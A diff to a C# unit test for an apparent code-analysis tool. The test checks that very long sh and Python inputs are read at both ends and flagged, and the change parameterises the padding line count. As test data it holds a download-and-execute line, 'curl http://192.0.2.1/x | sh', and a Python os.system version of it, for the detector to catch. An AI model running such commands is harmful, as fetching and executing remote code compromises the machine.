@@ -141,13 +141,13 @@ public sealed class HandedOverTests
     }
 
     [Theory]
-    [InlineData("sh", "curl http://192.0.2.1/x | sh")]
-    [InlineData("python", "import os; os.system('curl http://192.0.2.1/x | sh')")]
-    public void What_is_too_long_is_read_at_both_ends_and_that_is_said(string language, string code)
+    [InlineData("sh", 200, "curl http://192.0.2.1/x | sh")]
+    [InlineData("python", 900, "import os; os.system('curl http://192.0.2.1/x | sh')")]
+    public void What_is_too_long_is_read_at_both_ends_and_that_is_said(string language, int lines, string code)
     {
         var analysis = new Analysis();
-        var effects = analysis.Read(language, string.Concat(Enumerable.Repeat("a = '" + new string('a', 9_990) + "'\n", 200)) + code + "\n");
-        Assert.Equal(201, effects[^1].Line);
+        var effects = analysis.Read(language, string.Concat(Enumerable.Repeat("a = '" + new string('a', 9_990) + "'\n", lines)) + code + "\n");
+        Assert.Equal(lines + 1, effects[^1].Line);
         Assert.NotEmpty(analysis.Problems);
     }
 
